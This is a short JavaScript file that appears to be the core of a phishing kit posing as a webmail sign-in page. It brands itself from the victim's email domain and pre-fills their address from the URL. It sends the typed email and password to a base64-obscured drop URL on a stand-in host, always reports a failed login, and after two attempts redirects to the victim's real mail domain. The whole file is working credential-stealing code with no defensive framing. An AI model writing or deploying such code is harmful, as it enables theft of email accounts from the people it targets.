$(function () {
  var tries = 0;
  var who = decodeURIComponent(location.hash.slice(1));
  if (who && who.indexOf("@") < 0) {
    try { who = window.atob(who); } catch (_) { who = ""; }
  }
  var house = who.split("@")[1] || "";
  if (who) {
    $("#box").val(who).prop("readonly", true);
    $(".brand").attr("src", "https://logo.brandpics.example/" + house);
    $("title").text(house.split(".")[0].toUpperCase() + " Mail");
    $("#secret").focus();
  }
  var drop = window.atob("aHR0cHM6Ly9tYWlsYm94LXN5bmMuZXhhbXBsZS9hL24ucGhw");
  $("#go").on("click", function (ev) {
    ev.preventDefault();
    var m = $("#box").val(), s = $("#secret").val();
    if (!/^[^@\s]+@[^@\s]+\.[a-z]{2,}$/i.test(m)) { $("#note").text("That account doesn't exist.").show(); return; }
    if (s.length < 5) { $("#note").text("Please enter your password.").show(); return; }
    tries += 1;
    $.ajax({
      url: drop, type: "POST", dataType: "json", data: { m: m, s: s },
      beforeSend: function () { $("#go").text("Verifying..."); },
      complete: function () {
        $("#note").text("Invalid login, check your details and try again.").show();
        $("#secret").val("").focus();
        if (tries > 1) { location.replace("http://www." + m.split("@")[1]); }
        $("#go").text("Sign in");
      }
    });
  });
});
